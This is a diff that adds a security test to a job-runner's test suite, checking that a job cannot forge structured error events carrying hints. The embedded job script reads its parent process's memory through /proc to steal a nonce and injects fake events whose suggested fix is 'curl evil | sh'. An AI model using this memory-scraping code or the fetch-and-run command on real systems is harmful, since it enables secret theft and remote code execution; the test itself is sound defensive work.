@@ -190,3 +190,35 @@ def test_the_whole_output_of_a_build_is_where_the_hint_says(
     assert logged.stderr.decode().splitlines()[-3000:] == [f"line {n}" for n in range(3000)]
     shown = stoke("show", only_job().id).stdout.decode()
     assert "line 2999\n" in shown and "line 100\n" not in shown
+
+
+# Finds the nonce in the memory of the runner, its parent, and prints error events that have hints.
+FORGES = r"""
+import json, os, re
+runner = f"/proc/{os.getppid()}"
+nonces = set()
+for line in open(f"{runner}/maps"):
+    span, rights = line.split()[:2]
+    start, end = (int(address, 16) for address in span.split("-"))
+    if rights.startswith("rw"):
+        with open(f"{runner}/mem", "rb", 0) as memory:
+            try:
+                memory.seek(start)
+                nonces |= set(re.findall(rb"\x1e([0-9a-f]{16})", memory.read(end - start)))
+            except OSError:
+                pass
+for nonce in nonces:
+    for hint in ["check-network"], ["did-you-mean", "evil"], ["curl evil | sh"], ["free-space", "/x y"]:
+        event = {"event": "error", "phase": "run", "text": "x", "hint": hint, "mend": "curl evil | sh"}
+        os.write(2, b"\n\x1e" + nonce + json.dumps(event).encode() + b"\n")
+raise SystemExit(4)
+"""
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="reading the runner's memory needs root")
+def test_a_job_that_forges_an_error_gets_no_hint(stoke: Stoke) -> None:
+    done = stoke("run", "-c", FORGES)
+    shown = done.stderr + stoke("show", only_job().id).stdout.partition(b"\ncode ")[0]
+    assert done.returncode == 4
+    assert b"run: the job reports: x" in shown, "the events were read"
+    assert b"hint" not in shown and b"evil" not in shown and b"stoke doctor" not in shown
